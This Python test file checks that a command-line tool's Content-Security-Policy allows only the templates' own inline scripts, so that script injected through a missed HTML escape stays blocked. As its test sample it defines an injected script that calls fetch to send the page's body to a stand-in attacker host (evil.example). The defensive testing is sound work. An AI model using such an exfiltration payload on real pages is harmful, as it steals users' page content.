"""The pages' second wall: a script slipped into a page does not run.

Every page carries a Content-Security-Policy (view/policy.py) that lists the SHA-256 of each
inline script it may run. docs/security.md says it is a second wall, should an escape of a
stranger's text (a group's name, an agent's error, what it printed) ever be missed. It was no
wall: the hashes were taken of every script found in the finished page, so a script slipped in
by a missed escape was hashed and allowed with the page's own. Now only the program's own
scripts (those of its templates) are hashed; a stranger's is not, whatever its place.

Each test writes a page as the program does (its template, its filler) with one escape left
out, as a bug would leave it, and checks that the slipped script is not in the policy while the
page's own scripts still are.
"""

from __future__ import annotations

import base64
import hashlib
import html
import re
from importlib import resources

from treasure_cli.view.page import _fill, script_json
from treasure_cli.view.policy import with_policy

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
SLIPPED = "fetch('https://evil.example/?'+document.body.innerHTML)"
OWN = re.compile(r"<script>(.*?)</script>", re.S)


def sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def template(name: str) -> str:
    return resources.files("treasure_cli.view").joinpath(name).read_text(encoding="utf-8")


def policy_of(page: str) -> str:
    [found] = META.findall(page)
    return html.unescape(found)


def test_a_script_slipped_into_a_game_page_title_is_not_allowed_to_run():
    page_template = template("page_template.html")
    own = OWN.findall(page_template)
    assert own  # the replay's own script
    title = f"ann</title></head><body><script>{SLIPPED}</script>"  # a group name, its escape missed
    page = with_policy(_fill(page_template, TITLE=title, LEGEND="", DATA=script_json({"title": "t"})))
    policy = policy_of(page)
    assert f"<script>{SLIPPED}</script>" in page  # the slip is there, as a missed escape leaves it
    assert sha(SLIPPED) not in policy
    assert all(sha(body) in policy for body in own)


def test_a_script_slipped_into_a_frame_of_a_side_by_side_page_is_not_allowed_to_run():
    inner = with_policy(_fill(template("page_template.html"), TITLE="b", LEGEND=f"<script>{SLIPPED}</script>",
                              DATA=script_json({"title": "b"})))
    frames = f'<iframe id="board0" title="b" srcdoc="{html.escape(inner)}"></iframe>'
    page = with_policy(_fill(template("compare_template.html"), TITLE="a", FRAMES=frames,
                             DATA=script_json({"pairs": [], "turns": []})))
    policy = policy_of(page)
    assert sha(SLIPPED) not in policy and sha(SLIPPED) not in policy_of(inner)
    assert all(sha(body) in policy for body in OWN.findall(template("page_template.html")))
    assert all(sha(body) in policy for body in OWN.findall(template("compare_template.html")))


def test_a_script_slipped_into_a_leaderboard_page_is_not_allowed_to_run():
    # The leaderboard's pages run no script of their own: the policy is "script-src 'none'" whatever
    # a group name written unescaped into them holds.
    page = with_policy('<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>leaderboard</title></head>'
                       f'<body><table><tr><td>1</td><td><script>{SLIPPED}</script></td></tr></table></body></html>')
    assert "script-src 'none'" in policy_of(page)
